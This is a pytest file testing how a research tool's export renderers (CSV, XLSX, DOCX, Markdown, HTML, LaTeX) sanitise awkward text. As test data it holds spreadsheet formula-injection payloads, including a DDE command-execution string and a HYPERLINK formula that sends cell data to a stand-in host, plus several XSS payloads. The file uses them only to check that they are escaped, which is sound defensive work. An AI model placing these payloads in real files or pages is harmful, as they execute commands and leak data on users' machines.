"""What each export sink does with hostile or awkward text: spreadsheet formulas (CSV, XLSX), characters
XML cannot hold (XLSX, DOCX), raw HTML (Markdown), LaTeX and HTML specials, and the app's favicon (a
local file, so the browser fetches nothing from a font server). Pure renderers only: no project."""

from __future__ import annotations

import ast
import csv
import io
from html.parser import HTMLParser
from pathlib import Path

import docx
import openpyxl
import pandas as pd
import pytest

from analysis.export import docx as docx_out
from analysis.export import html as html_out
from analysis.export import latex as latex_out
from analysis.export import markdown as md_out
from analysis.export.document import BlockQuote, Document, InlineQuote, Paragraph, Source
from analysis.export.sanitize import escape_markdown_html, neutralise_cell, xml_safe
from analysis.errors import ExportError
from analysis.export.tables import (MemoEntry, memos_document, quote_table, write_csv, write_whole,
                                    write_xlsx)
from analysis.domain.methods_report import Measure, MethodsReport, SnapshotLine, report_document

REPO = Path(__file__).resolve().parents[2]
FFFD = "\ufffd"

FORMULAS = ["=1+2", '=HYPERLINK("http://example.invalid/?q="&A1,"click")', "+41 21 555 0100", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
PLAIN = ["She said no.", "ākonga", "", "'already quoted", " =leading space", "a=b", "1-2"]
SURROGATES = ["\ud800", "\udfff"]  # a pandas string column cannot hold them (pyarrow), so not in the table cases
ILLEGAL = ["\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1b", "\x1f", "\ufffe", "\uffff"]


def frame(text: str, *, participant: str = "Leader A", unit: str = "Executive") -> pd.DataFrame:
    """A one-row codings frame as ``codings_frame`` returns it, with one participant attribute."""
    return pd.DataFrame([{"code_path": "Barriers > Learner fear", "participant": participant, "unit": unit,
                          "transcript": "leader_a.txt", "timestamp": "00:12:31", "text": text, "turn": 2,
                          "start": 10, "end": 10 + len(text), "coding_id": 7}])


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def read_xlsx(path: Path) -> list[dict[str, openpyxl.cell.Cell]]:
    ws = openpyxl.load_workbook(path).active
    header = [c.value for c in ws[1]]
    return [dict(zip(header, row)) for row in ws.iter_rows(min_row=2)]


def vignette(text: str, *, narrative: str = "Narrative.", title: str = "A vignette") -> Document:
    """A document with ``text`` everywhere a renderer prints it: title, narrative, run-in and block quotes,
    attribution and the appendix."""
    return Document(
        title=f"{title} {text}",
        blocks=(Paragraph((f"{narrative} {text}", InlineQuote(f"short {text}", f"(Leader A {text})"))),
                BlockQuote(f"long {text}", f"(Leader A {text})")),
        sources=(Source(1, f"long {text}", f"Leader A {text}", "leader_a.txt", 2, 10, 40, "00:12:31", 3),))


def memo(body: str, **fields: str) -> MemoEntry:
    values = dict(kind="journal", phase="coding", title="Positioning", about="", author="Researcher",
                  created_at="2024-05-01T10:00:00", body=body) | fields
    return MemoEntry(**values)


# -- the sanitisers ---------------------------------------------------------------------------------

@pytest.mark.parametrize("value", FORMULAS)
def test_neutralise_cell_prefixes_formulas(value):
    assert neutralise_cell(value) == "'" + value
    assert neutralise_cell(value, raw=True) == value


@pytest.mark.parametrize("value", [*PLAIN, 42, -3, 2.5, None])
def test_neutralise_cell_leaves_everything_else(value):
    assert neutralise_cell(value) == value


@pytest.mark.parametrize("char", [*ILLEGAL, *SURROGATES])
def test_xml_safe_replaces_what_xml_cannot_hold(char):
    assert xml_safe(f"a{char}b") == f"a{FFFD}b"


def test_xml_safe_keeps_what_xml_can_hold():
    text = "tab\tnewline\ncr\r ākonga “quoted” \u00a0 \ud7ff \ue000 \ufffd 😬 \U0010ffff \x7f \x85"
    assert xml_safe(text) == text


@pytest.mark.parametrize(("text", "escaped"), [
    ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ('<img src=x onerror="alert(1)">', '&lt;img src=x onerror="alert(1)"&gt;'),
    ("R&D and a & b", "R&D and a & b"),
    ("&lt;b&gt; &#60; &#x3C; &amp;", "&amp;lt;b&amp;gt; &amp;#60; &amp;#x3C; &amp;amp;"),
    ("*emphasis* and - lists", "*emphasis* and - lists"),
])
def test_escape_markdown_html(text, escaped):
    assert escape_markdown_html(text) == escaped


# -- CSV and XLSX: formulas and characters ---------------------------------------------------------

@pytest.mark.parametrize("value", FORMULAS)
def test_csv_quote_table_neutralises_formulas(value, tmp_path):
    df = quote_table(frame(value, participant=value, unit=value), ["unit"])
    write_csv(df, tmp_path / "q.csv")
    [row] = read_csv(tmp_path / "q.csv")
    assert row["text"] == row["participant"] == row["unit"] == "'" + value
    assert row["code_path"] == "Barriers > Learner fear" and row["start"] == "10" and row["turn"] == "3"
    write_csv(df, tmp_path / "raw.csv", raw=True)
    [row] = read_csv(tmp_path / "raw.csv")
    assert row["text"] == row["participant"] == row["unit"] == value


@pytest.mark.parametrize("value", FORMULAS)
def test_xlsx_quote_table_neutralises_formulas(value, tmp_path):
    df = quote_table(frame(value, participant=value, unit=value), ["unit"])
    write_xlsx(df, tmp_path / "q.xlsx")
    [row] = read_xlsx(tmp_path / "q.xlsx")
    for column in ("text", "participant", "unit"):
        assert row[column].value == "'" + value and row[column].data_type == "s", column
    assert row["start"].value == 10 and row["turn"].value == 3
    write_xlsx(df, tmp_path / "raw.xlsx", raw=True)
    [row] = read_xlsx(tmp_path / "raw.xlsx")
    for column in ("text", "participant", "unit"):
        assert row[column].value == value and row[column].data_type == "s", column  # verbatim, still text


@pytest.mark.parametrize("value", [v for v in PLAIN if v])
def test_tables_leave_plain_text_alone(value, tmp_path):
    df = quote_table(frame(value), ["unit"])
    write_csv(df, tmp_path / "q.csv")
    write_xlsx(df, tmp_path / "q.xlsx")
    assert read_csv(tmp_path / "q.csv")[0]["text"] == value
    assert read_xlsx(tmp_path / "q.xlsx")[0]["text"].value == value


def test_attribute_named_like_a_formula_is_neutralised_in_the_header(tmp_path):
    df = quote_table(frame("x").rename(columns={"unit": "=unit"}), ["=unit"])
    write_csv(df, tmp_path / "q.csv")
    write_xlsx(df, tmp_path / "q.xlsx")
    assert "'=unit" in read_csv(tmp_path / "q.csv")[0]
    assert "'=unit" in read_xlsx(tmp_path / "q.xlsx")[0]


def test_csv_keeps_a_carriage_return_inside_its_cell(tmp_path):
    write_csv(quote_table(frame("before\rafter"), []), tmp_path / "q.csv")
    [row] = read_csv(tmp_path / "q.csv")
    assert row["text"] == "before\rafter" and row["coding_id"] == "7"


@pytest.mark.parametrize("char", ILLEGAL)
def test_xlsx_replaces_control_characters_in_a_quote(char, tmp_path):
    df = quote_table(frame(f"she paused{char} then went on", participant=f"Leader{char}A"), [])
    write_xlsx(df, tmp_path / "q.xlsx")
    [row] = read_xlsx(tmp_path / "q.xlsx")
    assert row["text"].value == f"she paused{FFFD} then went on"
    assert row["participant"].value == f"Leader{FFFD}A"


@pytest.mark.parametrize("error", [OSError(28, "No space left on device"), ValueError("boom")])
def test_a_failed_table_write_leaves_the_old_file_whole(error, tmp_path):
    target = tmp_path / "q.csv"
    write_csv(quote_table(frame("the old export"), []), target)
    before = target.read_bytes()

    def half_then_fail(tmp: Path) -> None:
        tmp.write_text("code_path,partici")
        raise error

    with pytest.raises(ExportError if isinstance(error, OSError) else ValueError):
        write_whole(target, half_then_fail)
    assert target.read_bytes() == before and [p.name for p in tmp_path.iterdir()] == ["q.csv"]


def test_table_writes_replace_an_existing_file_keeping_its_mode(tmp_path):
    target = tmp_path / "q.xlsx"
    write_xlsx(quote_table(frame("first"), []), target)
    assert target.stat().st_mode & 0o777 == 0o600  # new exports: readable by their owner only
    target.chmod(0o640)
    write_xlsx(quote_table(frame("second"), []), target)
    assert read_xlsx(target)[0]["text"].value == "second" and target.stat().st_mode & 0o777 == 0o640
    with pytest.raises(ExportError, match="Cannot write"):
        write_csv(quote_table(frame("x"), []), tmp_path / "missing" / "q.csv")


# -- DOCX: characters -------------------------------------------------------------------------------

def docx_text(data: bytes) -> str:
    document = docx.Document(io.BytesIO(data))
    cells = [c.text for t in document.tables for r in t.rows for c in r.cells]
    return "\n".join([p.text for p in document.paragraphs] + cells + [document.core_properties.title or ""])


@pytest.mark.parametrize("char", [*ILLEGAL, *SURROGATES])
def test_docx_vignette_replaces_control_characters(char):
    text = docx_text(docx_out.render(vignette(f"x{char}y")))
    assert text.count(f"x{FFFD}y") >= 6 and char not in text  # title (and property), narrative, quotes, sources


@pytest.mark.parametrize("char", [*ILLEGAL, *SURROGATES])
def test_docx_memos_replace_control_characters(char):
    entries = [memo(f"body{char}one\n\nsecond{char}para", title=f"T{char}", about=f"about{char}",
                    author=f"R{char}", phase=f"coding{char}")]
    text = docx_text(docx_out.render(memos_document(entries, title=f"Memos{char}")))
    for expected in (f"body{FFFD}one", f"second{FFFD}para", f"about{FFFD}: T{FFFD}", f"R{FFFD}",
                     f"Phase: coding{FFFD}", f"Memos{FFFD}"):
        assert expected in text, expected
    assert char not in text


# -- Markdown: raw HTML ----------------------------------------------------------------------------

HOSTILE = ["<script>alert(1)</script>", '<img src=x onerror="alert(1)">', "<a href='javascript:alert(1)'>x</a>",
           "<iframe src=//example.invalid></iframe>", "<http://example.invalid/track>"]


def rendered_html(markdown: str) -> str:
    """The Markdown as a CommonMark renderer (markdown-it, with raw HTML allowed) turns it into HTML."""
    markdown_it = pytest.importorskip("markdown_it")
    return markdown_it.MarkdownIt("commonmark", {"html": True}).render(markdown)


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_data(self, data):
        self.text.append(data)


def parse(page: str) -> Tags:
    parser = Tags()
    parser.feed(page)
    return parser


def assert_inert(html: str, hostile: str) -> None:
    parsed = parse(html)
    bad = [t for t, attrs in parsed.tags if t in ("script", "img", "a", "iframe")]
    assert not bad and not any(k.startswith("on") for _, attrs in parsed.tags for k, _ in attrs), parsed.tags
    assert hostile in "".join(parsed.text)  # shown as text, never as markup


@pytest.mark.parametrize("hostile", HOSTILE)
def test_markdown_memos_escape_raw_html(hostile):
    entries = [memo(f"I noticed {hostile} here.\n\n*Still* markdown.", title=f"T {hostile}",
                    about=f"A {hostile}", author=f"R {hostile}"),
               memo(hostile, kind="code", about="Barriers > Learner fear", title="")]
    md = md_out.render(memos_document(entries, title=f"Memos {hostile}"))
    assert "<" not in md
    assert escape_markdown_html(hostile) in md
    assert "#### Barriers &gt; Learner fear" in md and "*Still* markdown." in md  # memo Markdown stays Markdown
    assert_inert(rendered_html(md), hostile)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_markdown_vignette_escapes_raw_html(hostile):
    md = md_out.render(vignette(hostile))
    assert "<" not in md
    assert md.count("&lt;") >= 7  # title, narrative, two quotes, attributions, the appendix
    assert_inert(rendered_html(md), hostile)


def test_markdown_vignette_has_no_live_links_or_images():
    md = md_out.render(vignette("[click](javascript:alert(1)) ![t](http://example.invalid/t.png) [...]"))
    parsed = parse(rendered_html(md))
    assert not [t for t, _ in parsed.tags if t in ("a", "img")] and "[...]" in md


def test_markdown_script_shows_as_entities():
    md = md_out.render(vignette("<script>alert(1)</script>"))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md
    md = md_out.render(memos_document([memo("<script>alert(1)</script>")], title="Memos"))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md


# -- HTML and LaTeX (regression: already escaped) ---------------------------------------------------

@pytest.mark.parametrize("hostile", [*HOSTILE, 'a & b "quoted" \'single\''])
def test_html_escapes_everything(hostile):
    page = html_out.render(vignette(hostile))
    parsed = parse(page)
    assert [t for t, _ in parsed.tags if t in ("script", "img", "a", "iframe")] == []
    assert "".join(parsed.text).count(hostile) >= 6
    assert page.count("<script") == 0 and page.count("<style>") == 1


LATEX_SPECIALS = {"\\": r"\textbackslash{}", "&": r"\&", "%": r"\%", "$": r"\$", "#": r"\#", "_": r"\_",
                  "{": r"\{", "}": r"\}", "~": r"\textasciitilde{}", "^": r"\textasciicircum{}",
                  "<": r"\textless{}", ">": r"\textgreater{}", "|": r"\textbar{}"}


@pytest.mark.parametrize(("char", "escaped"), LATEX_SPECIALS.items())
def test_latex_escapes_specials(char, escaped):
    tex = latex_out.render(vignette(f"x{char}y"))
    body = tex[tex.index(r"\begin{document}"):]
    assert body.count(f"x{escaped}y") >= 5
    stripped = body.replace(f"x{escaped}y", "")
    assert f"x{char}y" not in stripped


def test_latex_quote_line_has_no_bare_special():
    tex = latex_out.render(vignette(r"40% & fees_paid {sic} ~ $5 #1 ^ \ end"))
    quote = tex.splitlines()[tex.splitlines().index(r"\begin{quote}") + 1]
    bare = quote
    for escaped in (r"\textbackslash{}", r"\textasciitilde{}", r"\textasciicircum{}", r"\%", r"\&", r"\_", r"\{",
                    r"\}", r"\$", r"\#"):
        bare = bare.replace(escaped, "")
    assert not any(c in bare for c in "%&$#_^~{}\\"), bare


# -- the favicon --------------------------------------------------------------------------------------

ROUTER = REPO / "analysis" / "workbench" / "app.py"  # the router (repo-root app.py only runs its main())


def page_icon_expression() -> ast.expr:
    tree = ast.parse(ROUTER.read_text(encoding="utf-8"))
    calls = [n for n in ast.walk(tree) if isinstance(n, ast.Call) and isinstance(n.func, ast.Attribute)
             and n.func.attr == "set_page_config"]
    assert len(calls) == 1, "the router calls st.set_page_config once"
    [icon] = [k.value for k in calls[0].keywords if k.arg == "page_icon"]
    return icon


def test_app_favicon_is_a_local_png_that_exists():
    """A ":material/...:" page_icon makes Streamlit's frontend load the favicon from fonts.gstatic.com; a
    file path is served by the local server (its media endpoint)."""
    from analysis.workbench.app import FAVICON

    expr = page_icon_expression()
    assert ast.unparse(expr) == "str(FAVICON)", ast.unparse(expr)
    value = str(FAVICON)
    assert isinstance(value, str) and not value.startswith((":", "http", "data:")), value
    path = Path(value)
    assert path.is_absolute() and path.is_file(), f"page_icon {value!r} is not a file"
    assert path.resolve().is_relative_to(REPO)
    from PIL import Image

    with Image.open(path) as image:
        assert image.format == "PNG" and image.size == (64, 64)


# -- the methods report and the memos: one Document each, every format's renderer escapes them --------------

def methods_report(text: str) -> MethodsReport:
    """A methods report with ``text`` in every string a researcher wrote (a snapshot's label and phase)."""
    return MethodsReport("The analysis followed reflexive thematic analysis (Braun & Clarke).", "",
                         {"transcripts": 1}, (Measure("Transcripts", 1), Measure("Searches", "2 (1 / 1 / 0)")),
                         (SnapshotLine(f"label {text}", f"phase {text}", "2024-05-01", 3),), "2024-05-02")


@pytest.mark.parametrize("hostile", HOSTILE)
def test_markdown_and_html_of_the_methods_report_and_memos_escape_what_researchers_wrote(hostile):
    docs = [report_document(methods_report(hostile)),
            memos_document([memo(f"body {hostile}", title=f"T {hostile}", about=f"A {hostile}", author=f"R {hostile}",
                                 phase=f"coding {hostile}")], title=f"Memos {hostile}")]
    for doc in docs:
        md = md_out.render(doc)
        assert "<" not in md and md.count("&lt;") >= 2
        assert_inert(rendered_html(md), hostile)
        page = html_out.render(doc)
        parsed = parse(page)
        assert not [t for t, _ in parsed.tags if t in ("script", "img", "a", "iframe")]
        assert "".join(parsed.text).count(hostile) >= 2  # shown as text, every time it was written
        tex = latex_out.render(doc)
        assert "<" not in tex and r"\textless{}" in tex


def test_the_methods_report_markup_of_a_snapshot_label_is_escaped_but_its_numbers_are_not():
    md = md_out.render(report_document(methods_report("*bold* _x_ | pipe")))
    assert "| label \\*bold\\* \\_x\\_ \\| pipe | phase \\*bold\\* \\_x\\_ \\| pipe | 2024-05-01 | 3 |" in md
    assert md.startswith("## Methods: the analysis process\n") and "| Transcripts | 1 |" in md
    assert md.rstrip().endswith("*Generated by Storyloom from the audit trail on 2024-05-02.*")
